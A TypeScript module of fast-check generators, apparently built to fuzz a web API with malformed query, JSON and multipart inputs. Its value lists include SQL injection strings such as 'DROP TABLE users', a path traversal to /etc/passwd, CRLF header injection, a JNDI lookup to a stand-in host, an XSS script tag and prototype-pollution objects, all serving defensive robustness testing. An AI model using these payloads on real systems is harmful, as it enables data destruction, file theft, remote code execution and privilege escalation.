import fc from "fast-check"

/** A value as each place can carry it: the text of a query or a form, and the very characters of a JSON body. */
export interface Value {
  text: string
  json: string
}

export const asValue = (text: string): Value => ({ text, json: JSON.stringify(text) })

const literal = (json: string): Value => ({ text: json, json })

/** A list within a list, so many levels deep. */
export const deepList = (levels: number) => "[".repeat(levels) + "]".repeat(levels)

/** An object within an object, so many levels deep. */
export const deepObject = (levels: number) => `${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`

const texts = [
  ...["", " ", "0", "-0", "-1", "1.5", "1e3", "0x10", "NaN", "Infinity", "-Infinity", "1e999", "+1", " 1", "1 ", "٣"],
  ...["9007199254740991", "9007199254740992", "9007199254740993", "18446744073709551616", "-9223372036854775809"],
  ...["99999999999999999", "9".repeat(400), "1_000", "1,000", "true", "null", "undefined", "[object Object]"],
  ...["\0", "1\0", "a\0b", "\ud800", "\udfff", "a\ud83d", "\ude00\ud83d", "\uffff", "\ufeff", "\u200b", "\u2028"],
  ...["\u202egnp.exe", "\u200f\u200e", "e\u0301".repeat(40), "😀".repeat(20), "👩‍👩‍👧‍👦".repeat(12), "ﷺ".repeat(80)],
  ...["%", "%zz", "%00", "%C0%80", "%ED%A0%80", "../../etc/passwd", "a/b?c=d#e", "a&b=c", "\r\nSet-Cookie: a=b"],
  ...[
    "' OR '1'='1",
    "1; DROP TABLE users; --",
    '"; DELETE FROM users WHERE ""="',
    "1) UNION SELECT * FROM sessions --",
  ],
  ...[`\${jndi:ldap://a.example}`, "{{7*7}}", "<script>alert(1)</script>", "大米1", "大米99999999999999999999"],
  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "a".repeat(10_001), "字".repeat(20_000)],
]

const literals = [
  ...["0", "-0", "-1", "1.5", "1e-7", "1e308", "1e999", "-1e999", "9007199254740991", "9007199254740992"],
  ...["18446744073709551616", "2147483648", "4294967296", "-9223372036854775808", "null", "true", "false"],
  ...[
    "[]",
    "{}",
    "[1]",
    '["1"]',
    "[[1]]",
    "[null]",
    '[{"id":1}]',
    '{"0":1}',
    '{"length":1e9}',
    '"\\ud800"',
    '"\\u0000"',
  ],
  ...['{"toString":1,"valueOf":1}', '{"toJSON":1}', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{}}}'],
  ...[deepList(500), deepObject(500), deepList(20_000)],
]

export const hostileText = fc.oneof(
  fc.constantFrom(...texts),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 60 }),
  fc.bigInt().map(String),
  fc.double().map(String),
)

/** The known troublemakers, one after the other. */
export const nonsense: Value[] = [...texts.map(asValue), ...literals.map(literal)]

/** What no parameter expects. */
export const hostileValue: fc.Arbitrary<Value> = fc.oneof(
  hostileText.map(asValue),
  fc.constantFrom(...literals).map(literal),
  fc.json({ maxDepth: 4 }).map(literal),
)

/** Names that mean something to the language, to a database or to somebody else's server. */
export const hostileName = fc.oneof(
  fc.constantFrom("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "then", "length"),
  fc.constantFrom("", "0", "a[]", "a[b]", "a.b", "\0", "\ud800", "id", "userId", "isHost", "role", "user_id", "Token"),
  fc.string({ unit: "binary", maxLength: 20 }),
)

/** Percent-encodes what `encodeURIComponent` refuses: half a surrogate pair goes out as the bytes of an ill-formed text. */
export function escaped(text: string): string {
  if (text.isWellFormed()) return encodeURIComponent(text)
  return [...text].map((one) => (one.isWellFormed() ? encodeURIComponent(one) : "%ED%A0%80")).join("")
}

export type Pairs = [string, Value][]

export const toQuery = (pairs: Pairs) => pairs.map(([name, { text }]) => `${escaped(name)}=${escaped(text)}`).join("&")

export const toJson = (pairs: Pairs) =>
  `{${pairs.map(([name, { json }]) => `${JSON.stringify(name)}:${json}`).join(",")}}`

export const boundary = "----hostile"

export const toMultipart = (pairs: Pairs, { asFiles = false } = {}) =>
  `${pairs
    .map(([name, { text }], at) => {
      const file = asFiles ? `; filename="${at}.png"\r\nContent-Type: image/png` : ""
      return `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${file}\r\n\r\n${text}\r\n`
    })
    .join("")}--${boundary}--\r\n`
